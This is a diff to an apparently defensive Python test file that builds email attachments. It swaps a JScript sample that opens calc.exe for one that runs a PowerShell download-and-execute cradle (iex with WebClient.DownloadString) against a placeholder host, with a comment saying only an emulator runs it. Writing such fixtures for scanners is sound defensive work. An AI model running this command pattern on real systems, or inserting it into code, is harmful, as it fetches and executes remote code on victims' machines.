@@ -5,7 +5,9 @@ import subprocess
 import tempfile
 
 TEXT = b'Content-Type: text/plain; charset=us-ascii\r\n\r\nHello,\r\nthis is the text.\r\n'
-SCRIPT = b'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc.exe"); // %s\n'
+# Downloads nothing: nobody runs it but the emulation.
+SCRIPT = (b'var shell = new ActiveXObject("WScript.Shell"); // %s\n'
+          b'shell.Run("powershell -c \\"iex (New-Object Net.WebClient).DownloadString(\'http://files.example/a\')\\"");\n')
 
 
 def attachment(content, parameters, kind=b'application/octet-stream', disposition=b'attachment'):
